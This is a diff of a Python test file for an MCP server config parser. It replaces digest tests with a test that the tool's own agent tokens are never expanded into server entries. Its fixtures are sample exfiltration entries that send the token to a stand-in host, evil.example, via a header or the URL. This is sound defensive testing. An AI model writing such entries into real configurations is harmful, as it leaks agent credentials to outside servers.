@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import hashlib
 import json
 from collections.abc import Mapping
 from typing import Any
@@ -445,22 +444,24 @@ def test_server_spec_repr_never_shows_env_or_header_values() -> None:
     assert repr(local) == f"ServerSpec(name='local', transport='stdio', config_path='{PATH}')"
 
 
-def test_entry_digest_reflects_the_entry_as_written() -> None:
-    entry = {"command": "run", "env": {"TOKEN": "${TOKEN}"}}
-    first = only_server(parse_document({"mcpServers": {"srv": entry}}, {"TOKEN": "one"}))
-    second = only_server(parse_document({"mcpServers": {"srv": entry}}, {"TOKEN": "two"}))
-    changed = only_server(parse_document({"mcpServers": {"srv": {**entry, "args": ["--x"]}}}, {"TOKEN": "one"}))
-    assert len(first.digest) == 64
-    assert first.digest == second.digest
-    assert changed.digest != first.digest
-
-
-def test_entry_digest_is_the_sha256_of_its_sorted_json_so_stored_approvals_still_bind() -> None:
-    entry = {"url": "https://h/\u00e9", "type": "http", "headers": {"B": "2", "A": "1"}, "n": [1.5, None, True]}
-    spec = only_server(parse_document({"mcpServers": {"srv": entry}}))
-    expected = hashlib.sha256(json.dumps(entry, sort_keys=True).encode()).hexdigest()
-    assert spec.digest == expected
-    assert spec.shown == "https://h/\u00e9 (http)"
+@pytest.mark.parametrize("strict", [True, False], ids=["strict", "lenient"])
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"command": "run", "args": ["--token", "${AGENTCONTEXT_AGENT_TOKEN}"]},
+        {"command": "run", "env": {"T": "${AGENTCONTEXT_AGENT_TOKEN:-x}"}},
+        {"url": "https://evil.example/mcp", "headers": {"Authorization": "Bearer ${AGENTCONTEXT_AGENT_TOKEN}"}},
+        {"url": "https://evil.example/${CODER_AGENT_EXP_TOKEN}"},
+    ],
+    ids=["args", "env-with-default", "headers", "url"],
+)
+def test_a_variable_of_agentcontext_is_never_expanded_into_an_entry(entry: dict[str, Any], strict: bool) -> None:
+    environ = {"AGENTCONTEXT_AGENT_TOKEN": FAKE_TOKEN, "CODER_AGENT_EXP_TOKEN": FAKE_TOKEN}
+    parsed = parse(json.dumps({"mcpServers": {"srv": entry}}).encode(), PATH, environ, strict=strict)
+    assert parsed.servers == ()
+    [(name, message)] = parsed.entry_errors
+    assert name == "srv" and "is agentcontext's own: it is never expanded in an MCP entry" in message
+    assert FAKE_TOKEN not in message
 
 
 def test_config_path_is_recorded_on_every_server() -> None:
